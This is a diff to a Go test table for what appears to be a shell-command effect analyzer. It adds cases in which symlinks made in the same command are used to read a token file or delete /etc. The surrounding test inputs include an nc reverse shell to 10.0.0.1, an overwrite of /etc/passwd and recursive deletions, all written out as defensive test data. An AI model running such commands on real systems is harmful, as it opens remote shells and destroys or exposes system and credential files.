@@ -555,6 +555,11 @@ var shellTable = []shellCase{
 	{cmd: `mkfifo /tmp/p; nc 10.0.0.1 4444 0</tmp/p | /bin/bash > /tmp/p 2>&1`, want: []Effect{eDlInto("10.0.0.1", "bash")}, unk: shUnkYes},
 	{cmd: `dd of=/etc/passwd <<< DATA`, want: []Effect{eWrite("/etc/passwd")}},
 
+	// ---- links created in the same command ----
+	{cmd: `ln -s /srv/ahp-data /tmp/lnk; cat /tmp/lnk/admin.token`, want: []Effect{eLink("/tmp/lnk", "/srv/ahp-data"), eRead("/srv/ahp-data/admin.token")}},
+	{cmd: `ln -s / r; rm -rf r/etc`, want: []Effect{eDelR("/etc")}},
+	{cmd: `ln -s /etc e && rm e`, want: []Effect{eDel("/work/proj/e")}},
+
 	// ---- what cannot be read ----
 	{cmd: `rm -rf "$(cat dirs.txt)"`, want: []Effect{eRead("/work/proj/dirs.txt")}, unk: shUnkYes},
 	{cmd: `eval "$X"`, unk: shUnkYes},
